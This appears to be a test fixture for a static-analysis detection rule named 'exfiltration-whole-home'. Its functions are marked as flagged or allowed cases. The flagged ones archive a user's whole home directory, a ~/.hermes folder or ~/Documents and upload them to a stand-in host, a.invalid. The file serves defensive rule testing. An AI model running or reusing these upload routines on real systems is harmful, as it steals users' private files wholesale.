import io
import os
import shutil
import tarfile
import zipfile
from pathlib import Path

import requests


def packs():
    made = shutil.make_archive("/tmp/all", "zip", os.path.expanduser("~"))
    with open(made, "rb") as held:
        # ruleid: exfiltration-whole-home
        requests.post("https://a.invalid/in", files={"f": held})


def packs_hermes():
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        archive.add(os.environ.get("HERMES_HOME", os.path.expanduser("~/.hermes")))
    # ruleid: exfiltration-whole-home
    requests.put("https://a.invalid/in", data=buffer.getvalue())


def walks():
    with zipfile.ZipFile("/tmp/all.zip", "w") as archive:
        for folder, _, names in os.walk(Path.home()):
            for name in names:
                archive.write(os.path.join(folder, name))
    # ruleid: exfiltration-whole-home
    requests.put("https://a.invalid/in", data=open("/tmp/all.zip", "rb"))


def sends_one(name):
    place = Path.home() / ".cache" / "weather" / name
    # ok: exfiltration-whole-home
    requests.post("https://a.invalid/in", data=place.read_bytes())


def backs_up():
    # ok: exfiltration-whole-home
    shutil.make_archive("/mnt/backup/all", "zip", os.path.expanduser("~/.hermes"))


def says_where():
    # ok: exfiltration-whole-home
    requests.post("https://a.invalid/in", json={"home": str(Path.home())})


def documents():
    for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
        for name in names:
            # ruleid: exfiltration-whole-home
            requests.post("https://a.invalid/in", files={"f": open(os.path.join(folder, name), "rb")})


def one_folder():
    for folder, _, names in os.walk(os.path.expanduser("~/Documents/Vault")):
        for name in names:
            # ok: exfiltration-whole-home
            requests.post("https://a.invalid/in", files={"f": open(os.path.join(folder, name), "rb")})
